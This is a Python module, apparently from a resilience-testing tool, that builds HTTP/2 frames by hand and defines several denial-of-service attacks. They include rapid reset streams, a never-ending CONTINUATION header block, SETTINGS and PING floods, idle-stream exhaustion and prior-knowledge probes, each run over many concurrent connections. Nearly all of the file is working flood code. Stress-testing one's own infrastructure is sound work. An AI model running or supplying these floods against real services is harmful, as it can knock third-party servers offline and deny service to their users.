"""HTTP/2 (RFC 9113) by hand, and well-known attacks with it. An edge need not offer HTTP/2; the result then says so."""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Callable, Mapping

from hpack import Decoder, Encoder
from hpack.exceptions import HPACKError

from ..attack import Assault, attack
from ..client import Connection, why

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = (8).to_bytes(4, "big")
CONNECTIONS = 10
BATCH = 100  # items written at once
AFTER_AN_END = 0.05  # seconds


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame (§4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


class Http2:
    """A connection that speaks HTTP/2."""

    def __init__(self, assault: Assault, connection: Connection) -> None:
        self.connection = connection
        self._assault = assault
        self._stream = -1
        self._decoder = Decoder()
        self.ended = False
        connection.send(PREFACE + frame(SETTINGS, 0, 0))

    @classmethod
    async def open(cls, assault: Assault) -> Http2 | None:
        """Open a connection, or count that the edge doesn't offer HTTP/2 and return None. Raises what
        `Client.connect` raises."""
        connection = await assault.client.connect(alpn=("h2", "http/1.1"))
        if connection.protocol == "h2":
            return cls(assault, connection)
        connection.abort()
        assault.got["no HTTP/2 offered"] += 1
        return None

    def next_stream(self) -> int:
        """Return the number of a new stream."""
        self._stream += 2
        return self._stream

    def head(self, method: str, path: str, headers: Mapping[str, str] | None = None) -> bytes:
        """Return a request's header block that needs no entry in the peer's dynamic table."""
        fields = {":method": method, ":scheme": "https", ":authority": self._assault.target.name, ":path": path}
        encoder = Encoder()
        encoder.header_table_size = 0
        return encoder.encode({**fields, **(headers or {})}.items())

    def request(self, method: str, path: str, headers: Mapping[str, str], body: bytes = b"") -> None:
        """Send a complete request."""
        stream = self.next_stream()
        block = self.head(method, path, {**headers, "content-length": str(len(body))})
        self.connection.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body))

    async def read(self) -> None:
        """Count what arrives until the peer closes the connection."""
        reader = self.connection.reader
        try:
            while True:
                head = await reader.readexactly(9)
                payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
                self._take(head[3], head[4], payload)
        except (OSError, ssl.SSLError, EOFError) as error:
            self._assault.got[f"connection {why(error)}"] += 1
        finally:
            self.ended = True

    async def read_for(self, seconds: float) -> None:
        """Like `read`, but for at most ``seconds``."""
        try:
            async with asyncio.timeout(seconds):
                await self.read()
        except TimeoutError:
            self.ended = False

    def _take(self, kind: int, flags: int, payload: bytes) -> None:
        got = self._assault.got
        if kind == HEADERS:
            try:
                headers = {str(name): str(value) for name, value in self._decoder.decode(payload)}
                got[headers.get(":status", "headers")] += 1
            except HPACKError:
                got["headers"] += 1
        elif kind == DATA:
            self._assault.look(payload)
        elif kind == RST_STREAM:
            got["RST_STREAM"] += 1
        elif kind == GOAWAY:
            got[f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"] += 1
        elif kind == SETTINGS and not flags & ACK:
            self.connection.send(frame(SETTINGS, ACK, 0))


async def _storm(assault: Assault, begin: Callable[[Http2], bytes], batch: Callable[[Http2], bytes], each: int) -> None:
    """Open ten connections, send an opening on each and then batches of ``each`` items as fast as they are taken.
    Reopen what is closed."""

    async def do(number: int) -> None:
        while assault.goes_on:
            client = await Http2.open(assault)
            if client is None:
                await asyncio.sleep(0.5)
                continue
            reading = asyncio.ensure_future(client.read())
            try:
                client.connection.send(begin(client))
                while assault.goes_on and not client.ended:
                    client.connection.send(batch(client))
                    async with asyncio.timeout(max(0.01, assault.left)):
                        await client.connection.writer.drain()
                    assault.tried += each
                    await asyncio.sleep(0)
            except (OSError, ssl.SSLError, TimeoutError):
                pass
            finally:
                reading.cancel()
                client.connection.abort()
            await asyncio.sleep(AFTER_AN_END)

    await assault.together(CONNECTIONS, do)


def _nothing(client: Http2) -> bytes:
    return b""


@attack(
    "h2-rapid-reset", "Ten HTTP/2 connections of requests that are cancelled at once", unit="streams", from_same=True
)
async def rapid_reset(assault: Assault) -> None:
    def batch(client: Http2) -> bytes:
        block = client.head("GET", "/incoming-call")
        streams = [client.next_stream() for _ in range(BATCH)]
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in streams
        )

    await _storm(assault, _nothing, batch, BATCH)


@attack("h2-rapid-reset-bodies", "The same with POSTs whose bodies never come", unit="streams")
async def rapid_reset_bodies(assault: Assault) -> None:
    def batch(client: Http2) -> bytes:
        block = client.head("POST", "/incoming-call", {"content-length": "60000"})
        streams = [client.next_stream() for _ in range(BATCH)]
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams
        )

    await _storm(assault, _nothing, batch, BATCH)


@attack("h2-continuation", "Ten HTTP/2 connections of a header block that never ends", unit="frames")
async def continuation(assault: Assault) -> None:
    def begin(client: Http2) -> bytes:
        return frame(HEADERS, END_STREAM, client.next_stream(), client.head("GET", "/incoming-call"))

    more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * BATCH
    await _storm(assault, begin, lambda client: more, BATCH)


@attack("h2-settings", "Ten HTTP/2 connections of SETTINGS, each of which wants an answer", unit="frames")
async def settings(assault: Assault) -> None:
    many = frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff" * 5) * BATCH
    await _storm(assault, _nothing, lambda client: many, BATCH)


@attack("h2-pings", "Ten HTTP/2 connections of PING, PRIORITY and empty DATA", unit="frames")
async def pings(assault: Assault) -> None:
    one = frame(PING, 0, 0, bytes(8)) + frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")
    await _storm(assault, _nothing, lambda client: one * BATCH, 3 * BATCH)


@attack(
    "h2-idle-streams",
    "HTTP/2 requests that never end, as many as a connection may have, on 50 connections",
    unit="streams",
)
async def idle_streams(assault: Assault) -> None:
    async def do(number: int) -> None:
        client = await Http2.open(assault)
        if client is None:
            return
        for _ in range(100):
            head = client.head("POST", "/incoming-call", {"content-length": "60000"})
            stream = client.next_stream()
            client.connection.send(frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, b"a" * 500))
            assault.tried += 1
        await client.read_for(assault.left)
        client.connection.abort()

    await assault.together(50, do)


@attack(
    "h2-unasked", "HTTP/2 with prior knowledge: in the clear, and over TLS without having agreed on it, 10 a second"
)
async def unasked(assault: Assault) -> None:
    async def do(number: int) -> None:
        assault.tried += 1
        tls = number % 2 == 1
        async with assault.client.connection(tls=tls, port=None if tls else assault.target.http_port) as connection:
            client = Http2(assault, connection)
            client.request("GET", "/readyz", {})
            data = await connection.rest()
            shown = data[9:12].decode("latin1") if data.startswith(b"HTTP/1") else "frames" if data else "closed"
            assault.got[f"{shown} {'over TLS' if tls else 'in the clear'}"] += 1

    await assault.paced(10.0, do)
